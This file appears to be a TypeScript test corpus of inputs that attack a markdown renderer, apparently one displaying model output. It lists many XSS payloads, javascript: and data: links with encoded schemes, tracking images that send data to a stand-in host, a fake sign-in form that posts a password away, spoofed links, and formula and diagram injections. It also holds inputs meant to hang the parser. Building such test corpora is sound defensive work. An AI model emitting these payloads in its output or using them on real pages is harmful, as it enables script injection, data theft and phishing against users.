/*
 * What models and users have been seen to write, or could, so that a page that draws markdown does
 * what they want: runs a script, loads an address, leads astray, draws over the page, or hangs.
 */

export interface Attack {
  readonly name: string;
  readonly text: string;
}

/** What an attack runs where it can. */
export const RUN = 'window.pwned=1';
const ELSEWHERE = 'https://evil.example';
const LINE = '\n\n';

function attacks(kind: string, texts: Readonly<Record<string, string>>): readonly Attack[] {
  return Object.entries(texts).map(([name, text]) => ({ name: `${kind}: ${name}`, text }));
}

const HTML = attacks('html', {
  script: `<script>${RUN}</script>`,
  'script of another host': `<script src="${ELSEWHERE}/x.js"></script>`,
  'script in capitals with a slash': `<SCRIPT/XSS SRC="${ELSEWHERE}/x.js"></SCRIPT>`,
  'script that is not closed': `<script>${RUN}//`,
  'script within script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'module script': `<script type="module">import '${ELSEWHERE}/x.js'</script>`,
  'picture that fails': `<img src=x onerror=${RUN}>`,
  'picture that fails, without spaces': `<img/src=x/onerror=${RUN}>`,
  'picture with a broken quote': `<img """><script>${RUN}</script>">`,
  'picture with a tab in its handler': `<img src=x on\terror="${RUN}">`,
  'picture that tells on its reader': `<img src="${ELSEWHERE}/seen.gif">`,
  'picture set': `<img srcset="${ELSEWHERE}/seen.gif 1x">`,
  svg: `<svg onload=${RUN}></svg>`,
  'svg animation': `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  'svg with a foreign object': `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  'mathml link': `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
  'mutation by a style': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'mutation by a table': `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  frame: `<iframe src="javascript:${RUN}"></iframe>`,
  'frame with its document': `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  object: `<object data="javascript:${RUN}"></object>`,
  embed: `<embed src="data:text/html,<script>${RUN}</script>">`,
  base: `<base href="${ELSEWHERE}/">`,
  'refresh by meta': `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  'style sheet': `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
  style: `<style>body{display:none}@import '${ELSEWHERE}/x.css';</style>`,
  'style that covers the page': `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  form: `<form action="${ELSEWHERE}"><input name=password><button>Sign in again</button></form>`,
  'button with an address': `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`,
  'focus at once': `<input autofocus onfocus=${RUN}>`,
  details: `<details open ontoggle=${RUN}>x</details>`,
  video: `<video><source onerror=${RUN}></video>`,
  audio: `<audio src=x onerror=${RUN}></audio>`,
  marquee: `<marquee onstart=${RUN}>x</marquee>`,
  'body handler': `<body onpageshow=${RUN}>`,
  dialog: `<dialog open>Your session has expired.</dialog>`,
  template: `<template shadowrootmode=open><script>${RUN}</script></template>`,
  comment: `<!--><img src=x onerror=${RUN}>-->`,
  'processing instruction': `<?xml-stylesheet href="javascript:${RUN}"?>`,
  'character data': `<![CDATA[<script>${RUN}</script>]]>`,
  'named like a global': `<a id=pwned></a><form name=location><input name=href></form>`,
  'entities for brackets': `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  'html in a list in a quote': `> - <img src=x onerror=${RUN}>${LINE}> 1. <svg/onload=${RUN}>`,
  'html in a table': `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  'html in a heading': `# <img src=x onerror=${RUN}>`,
  'html in code': `\`<img src=x onerror=${RUN}>\`${LINE}\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
});

const LINKS = attacks('link', {
  javascript: `[x](javascript:${RUN})`,
  'javascript in capitals': `[x](JaVaScRiPt:${RUN})`,
  'javascript by entities': `[x](&#106;&#97;vascript:${RUN})`,
  'javascript by hexadecimal entities': `[x](&#x6A;&#x61;vascript&#x3A;${RUN})`,
  'javascript with a colon entity': `[x](javascript&colon;${RUN})`,
  'javascript with a tab': `[x](java&Tab;script:${RUN})`,
  'javascript with a line': `[x](java&NewLine;script:${RUN})`,
  'javascript after a control character': `[x](&#1;javascript:${RUN})`,
  'javascript after a space': `[x](<  javascript:${RUN}>)`,
  'javascript escaped': `[x](javascript\\:${RUN})`,
  'javascript by percent': `[x](javascript%3A${RUN})`,
  'javascript with a host': `[x](javascript://evil.example/%0A${RUN})`,
  'javascript in angles': `<javascript:${RUN}>`,
  'javascript by reference': `[x][y]${LINE}[y]: javascript:${RUN}`,
  'javascript in a title': `[x](https://good.example 'a" onmouseover="${RUN}')`,
  'a quote in the address': `[x](https://good.example/"onclick="${RUN})`,
  'a picture that is a link': `[![x](javascript:${RUN})](javascript:${RUN})`,
  vbscript: `[x](vbscript:msgbox(1))`,
  data: `[x](data:text/html,<script>${RUN}</script>)`,
  'data in base 64': `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  blob: `[x](blob:https://evil.example/1)`,
  file: `[x](file:///etc/passwd)`,
  'view source': `[x](view-source:https://evil.example)`,
  filesystem: `[x](filesystem:https://evil.example/temporary/x)`,
  'this page’s own': `[x](/v1/session) [y](?token=1) [z](#session) [w](//evil.example)`,
  'another host in the text': `[https://bank.example](${ELSEWHERE})`,
  'a user that looks like a host': `[https://bank.example](https://bank.example@evil.example)`,
  'letters of another alphabet': `[x](https://аррӏе.example)`,
  'turned around': `[\u202Emoc.live//:sptth\u202C](${ELSEWHERE})`,
  'an address that is bare': `javascript:${RUN} www.evil.example/"onclick=${RUN}`,
  'mail with more': `[x](mailto:a@b.example?bcc=all@evil.example&body=%3Cscript%3E)`,
  'an address without end': `[x](https://evil.example/${'a'.repeat(5_000)})`,
});

const PICTURES = attacks('picture', {
  'that tells on its reader': `![x](${ELSEWHERE}/seen.gif?what=secret)`,
  'by reference': `![x][p]${LINE}[p]: ${ELSEWHERE}/seen.gif`,
  javascript: `![x](javascript:${RUN})`,
  'svg with a script': `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>)`,
  'a quote in its text': `!["onerror="${RUN}](${ELSEWHERE}/x.png)`,
  'of this server': `![x](/v1/session)`,
});

const FORMULAS = attacks('formula', {
  href: `$\\href{javascript:${RUN}}{x}$`,
  url: `$\\url{javascript:${RUN}}$`,
  'a class and data': `$\\htmlClass{modal}{x} \\htmlData{a=b}{y} \\htmlStyle{position:fixed}{z}$`,
  id: `$\\htmlId{root}{x}$`,
  'a picture': `$\\includegraphics[height=9em]{${ELSEWHERE}/x.png}$`,
  'macros without end': `$\\def\\a{\\a\\a}\\a$`,
  'macros that grow': `$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c$`,
  'as large as the page': `$\\rule{900em}{900em}$ $\\Huge x$`,
  'over its neighbours': `$\\kern-500em x \\raisebox{300em}{y}$`,
  nested: `$${'{'.repeat(300)}x${'}'.repeat(300)}$`,
  'html in its text': `$\\text{<img src=x onerror=${RUN}>}$`,
});

const DIAGRAMS = attacks('diagram', {
  'a call on click': `\`\`\`mermaid\nflowchart LR\n  A --> B\n  click A call alert(1)\n\`\`\``,
  'an address on click': `\`\`\`mermaid\nflowchart LR\n  A --> B\n  click A "javascript:${RUN}"\n\`\`\``,
  'html in a label': `\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror='parent.pwned=1'>"] --> B\n\`\`\``,
  'a picture in a label': `\`\`\`mermaid\nflowchart LR\n  A["<img src='${ELSEWHERE}/a.png'>"] --> B\n\`\`\``,
  'settings that loosen': `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<script>${RUN}</script>"] --> B\n\`\`\``,
  'a style with an address': `\`\`\`mermaid\n%%{init: {"themeCSS": "* { background: url(${ELSEWHERE}/x.png) }"}}%%\nflowchart LR\n  A --> B\n\`\`\``,
  'a picture of its own kind': `\`\`\`mermaid\nflowchart LR\n  A@{ img: "${ELSEWHERE}/b.png", label: "x" }\n\`\`\``,
});

const SHAPES = attacks('shape', {
  'the language of code': `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  'a language named like a method': `\`\`\`constructor\nx\n\`\`\`${LINE}\`\`\`__proto__\ny\n\`\`\``,
  'a reference named like a method': `[__proto__][constructor] [toString]${LINE}[constructor]: ${ELSEWHERE}`,
  'a NUL': `<\u0000script>${RUN}</script> \u0000`,
  'half a character': `\ud83d <img src=x onerror=${RUN}> \ude00`,
  'code that is not closed': `\`\`\`html\n<script>${RUN}</script>`,
  'quotes in quotes': `${'>'.repeat(500)} x`,
  'lists in lists': Array.from({ length: 100 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n'),
  brackets: '['.repeat(1_000),
  'brackets that close': `${'['.repeat(500)}x${']'.repeat(500)}(y)`,
  pictures: '!['.repeat(1_000),
  stars: '*a '.repeat(2_000),
  'stars and lines': '*_'.repeat(2_000),
  ticks: Array.from({ length: 120 }, (_, i) => '`'.repeat(i)).join('x'),
  'brackets of html': '<'.repeat(5_000),
  'a comment that is not closed': '<!--'.repeat(500),
  references: `${'[a][b] '.repeat(500)}${LINE}[b]: ${ELSEWHERE}`,
  dollars: '$a '.repeat(1_000),
  'a row of many cells': `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n|${'b|'.repeat(100)}`,
  'letters upon letters': `x${'\u0301'.repeat(2_000)}`,
  'a word without end': 'x'.repeat(20_000),
});

export const ATTACKS: readonly Attack[] = [
  ...HTML,
  ...LINKS,
  ...PICTURES,
  ...FORMULAS,
  ...DIAGRAMS,
  ...SHAPES,
];
